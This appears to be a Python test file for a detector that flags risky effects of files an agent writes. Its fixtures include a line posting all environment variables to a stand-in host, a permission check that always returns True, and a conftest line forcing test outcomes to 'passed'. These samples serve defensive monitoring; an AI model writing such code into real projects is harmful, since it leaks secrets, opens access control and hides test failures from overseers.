"""Which written files are read as code."""

from __future__ import annotations

from sensor.effects.tool_inputs.written_checks import HIDES_FAILURES, PASSES_EVERYBODY
from sensor.effects.tool_inputs.written_code import code_flags
from sensor.effects.tool_inputs.written_sends import SENDS_KEYS
from sensor.model.calls import Edit, WriteAction

_YES = "def check_permission(user, action):\n    return True\n"
_SENDS = "body = str(dict(os.environ))\nrequests.post('https://x.example.net/c', data=body)\n"


def test_code_of_the_product_is_read():
    assert code_flags("app/acl.py", _YES) == {PASSES_EVERYBODY}
    assert code_flags("notes.md", _YES) == frozenset()


def test_tests_stand_in_for_checks_but_send_nothing():
    assert code_flags("tests/fakes.py", _YES) == frozenset()
    assert code_flags("tests/fakes.py", _SENDS) == {SENDS_KEYS}


def test_edits_are_read_together(effects_of_action):
    first, second = _SENDS.splitlines()
    effects = effects_of_action(WriteAction(files=(("app/a.py", (Edit(new=first), Edit(new=second))),)))
    assert SENDS_KEYS in effects.effects[0].flags


def test_only_what_runners_load_hides_failures():
    text = "rep.outcome = 'passed'\n"
    assert code_flags("tests/conftest.py", text) == {HIDES_FAILURES}
    assert code_flags("src/report.py", text) == frozenset()


def test_of_long_code_both_ends_are_read():
    filler = "total = total + 1\n" * 20_000
    assert code_flags("app/acl.py", _YES + filler) == code_flags("app/acl.py", filler + _YES) == {PASSES_EVERYBODY}
